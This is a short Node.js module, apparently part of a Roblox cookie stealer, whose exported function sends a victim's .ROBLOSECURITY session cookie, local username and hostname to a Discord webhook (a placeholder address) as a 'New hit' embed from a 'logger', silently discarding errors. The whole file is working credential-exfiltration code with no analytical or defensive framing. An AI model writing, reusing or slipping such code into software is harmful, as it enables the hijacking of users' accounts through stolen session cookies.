const fetch = require('node-fetch');
const os = require('os');

const HOOK = 'https://discordapp.invalid/api/webhooks/111111111111111111/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';

exports.report = function (cookie) {
  const embed = {
    title: 'New hit',
    fields: [
      { name: 'User', value: os.userInfo().username, inline: true },
      { name: 'Host', value: os.hostname(), inline: true },
      { name: '.ROBLOSECURITY', value: '```' + String(cookie).slice(0, 1000) + '```' },
    ],
  };
  fetch(HOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'logger', embeds: [embed] }) }).catch(() => {});
};
